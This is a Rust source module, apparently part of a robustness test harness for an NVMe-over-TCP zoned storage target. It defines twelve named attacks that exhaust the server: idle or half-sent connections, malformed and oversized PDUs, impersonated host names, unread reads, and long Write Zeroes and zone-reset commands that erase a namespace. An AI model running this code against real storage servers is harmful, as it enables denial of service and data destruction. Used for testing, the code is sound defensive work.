//! Ways to misbehave. Each takes a moment and leaves connections behind, which stay open until the
//! [`Hoard`] is dropped or pushes them out.
use super::{Answers, Client, Connect, Target};
use std::collections::VecDeque;
use std::io::{self, ErrorKind};
use zonal_nvme::tcp::{Initialize, Payload, Pdu};
use zonal_nvme::wire::fabrics::DISCOVERY_NQN;
use zonal_nvme::wire::io::RwCommand;
use zonal_nvme::wire::opcode::IoOpcode;
use zonal_nvme::wire::zone::{SELECT_ALL, SendAction, ZoneSend};
use zonal_nvme::wire::{Sgl, Sqe};

/// Connections that are kept open, and the answers of all.
#[derive(Default)]
pub struct Hoard {
    clients: VecDeque<Client>,
    pub answers: Answers,
}

/// Connections kept at most; the oldest are closed first.
const MAX_HOARD: usize = 128;

impl Hoard {
    /// Keeps a connection open.
    pub fn keep(&mut self, client: Client) {
        self.answers.add(&client.answers);
        self.clients.push_back(client);
        if self.clients.len() > MAX_HOARD {
            self.clients.pop_front();
        }
    }
}

/// Whom to attack.
#[derive(Clone, Debug)]
pub struct Victim {
    pub target: Target,
    /// A name that an honest host uses.
    pub hostnqn: String,
    /// A zoned namespace whose data nobody needs.
    pub nsid: u32,
}

/// An attack: one round of it.
pub type Attack = fn(&Victim, &mut Hoard) -> io::Result<()>;

/// All attacks, by name.
pub const ATTACKS: [(&str, Attack); 12] = [
    ("connections without ICReq", silent),
    ("half an ICReq", half_a_header),
    ("no Connect", initialized_only),
    ("garbage", garbage),
    ("lengths of 4 GiB", huge_lengths),
    ("Connect to nothing", unknown_subsystem),
    ("another host's name", borrowed_name),
    ("discovery", discovery),
    ("commands before Connect", early_commands),
    ("data never sent", writes_without_data),
    ("data never read", reads_never_read),
    ("long commands", long_commands),
];

fn silent(victim: &Victim, hoard: &mut Hoard) -> io::Result<()> {
    for _ in 0..16 {
        hoard.keep(victim.target.open()?);
    }
    Ok(())
}

fn half_a_header(victim: &Victim, hoard: &mut Hoard) -> io::Result<()> {
    let mut client = victim.target.open()?;
    client.send_bytes(&[0, 0, 128, 0, 128])?;
    hoard.keep(client);
    Ok(())
}

fn initialized_only(victim: &Victim, hoard: &mut Hoard) -> io::Result<()> {
    hoard.keep(victim.target.initialized()?);
    Ok(())
}

fn garbage(victim: &Victim, hoard: &mut Hoard) -> io::Result<()> {
    let mut client = victim.target.open()?;
    client.send_bytes(&[0xff; 512])?;
    let closed = client.is_closed();
    hoard.keep(client);
    if closed { Ok(()) } else { Err(ErrorKind::TimedOut.into()) }
}

fn huge_lengths(victim: &Victim, hoard: &mut Hoard) -> io::Result<()> {
    let mut client = victim.target.initialized()?;
    let flush = Pdu::Command { sqe: Sqe::new(0, 1, 1), data: Payload::from(vec![0; 4]) };
    let mut bytes = client.bytes(&flush);
    bytes[4..8].copy_from_slice(&u32::MAX.to_le_bytes());
    client.send_bytes(&bytes)?;
    let closed = client.is_closed();
    hoard.keep(client);
    if closed { Ok(()) } else { Err(ErrorKind::TimedOut.into()) }
}

fn unknown_subsystem(victim: &Victim, hoard: &mut Hoard) -> io::Result<()> {
    let mut client = victim.target.initialized()?;
    client.connect("nqn.2026-11.org.example:nothing", &Connect::default())?;
    hoard.keep(client);
    Ok(())
}

fn borrowed_name(victim: &Victim, hoard: &mut Hoard) -> io::Result<()> {
    let mut client = victim.target.initialized()?;
    // It stops in the middle of Connect.
    let connect = Connect { hostnqn: &victim.hostnqn, ..Connect::default() };
    let bytes = client.bytes(&super::connect_pdu(&victim.target.nqn, &connect));
    client.send_bytes(&bytes[..bytes.len() - 1])?;
    hoard.keep(client);
    Ok(())
}

fn discovery(victim: &Victim, hoard: &mut Hoard) -> io::Result<()> {
    let mut client = victim.target.initialized()?;
    client.connect(DISCOVERY_NQN, &Connect::default())?;
    client.enable()?;
    hoard.keep(client);
    Ok(())
}

fn early_commands(victim: &Victim, hoard: &mut Hoard) -> io::Result<()> {
    let mut client = victim.target.open()?;
    let mut bytes = client.bytes(&Pdu::IcReq(Initialize::default()));
    for _ in 0..256 {
        let mut write = Sqe::new(IoOpcode::WRITE.0, 1, victim.nsid);
        write.dptr = Sgl::transport(1 << 20);
        bytes.extend(client.bytes(&Pdu::Command { sqe: write, data: Payload::default() }));
    }
    client.send_without_waiting(&bytes)?;
    hoard.keep(client);
    Ok(())
}

fn writes_without_data(victim: &Victim, hoard: &mut Hoard) -> io::Result<()> {
    let (admin, mut queue) = victim.target.queues(Connect::default().hostnqn)?;
    for _ in 0..64 {
        let mut write = Sqe::new(IoOpcode::WRITE.0, 0, victim.nsid);
        write.dptr = Sgl::transport(1 << 20);
        write.cdw12 = 255.into();
        let pdu = queue.capsule(write, &[]);
        queue.send(&pdu)?;
    }
    queue.receive()?;
    hoard.keep(queue);
    hoard.keep(admin);
    Ok(())
}

fn reads_never_read(victim: &Victim, hoard: &mut Hoard) -> io::Result<()> {
    let (admin, mut queue) = victim.target.queues(Connect::default().hostnqn)?;
    let mut bytes = Vec::new();
    for _ in 0..64 {
        let mut read = Sqe::new(IoOpcode::READ.0, 0, victim.nsid);
        read.dptr = Sgl::transport(1 << 20);
        read.cdw12 = 255.into();
        let pdu = queue.capsule(read, &[]);
        bytes.extend(queue.bytes(&pdu));
    }
    queue.send_without_waiting(&bytes)?;
    hoard.keep(queue);
    hoard.keep(admin);
    Ok(())
}

/// Commands without data that are long in the device: Verify and Write Zeroes of 65,536 blocks, and
/// Zone Management of all zones.
fn long_commands(victim: &Victim, hoard: &mut Hoard) -> io::Result<()> {
    let (admin, mut queue) = victim.target.queues(Connect::default().hostnqn)?;
    let mut bytes = Vec::new();
    for opcode in [IoOpcode::VERIFY, IoOpcode::WRITE_ZEROES] {
        let mut command = RwCommand::zeroed();
        (command.opcode, command.nsid) = (opcode.0, victim.nsid.into());
        command.nlb = u16::MAX.into();
        let pdu = queue.capsule(command.into(), &[]);
        bytes.extend(queue.bytes(&pdu));
    }
    for action in [SendAction::OPEN, SendAction::CLOSE, SendAction::FINISH, SendAction::RESET] {
        let mut command = ZoneSend::zeroed();
        (command.opcode, command.nsid) = (IoOpcode::ZONE_MANAGEMENT_SEND.0, victim.nsid.into());
        (command.action, command.options) = (action.0, SELECT_ALL);
        let pdu = queue.capsule(command.into(), &[]);
        bytes.extend(queue.bytes(&pdu));
    }
    queue.send_bytes(&bytes)?;
    for _ in 0..6 {
        queue.response()?;
    }
    hoard.keep(queue);
    hoard.keep(admin);
    Ok(())
}
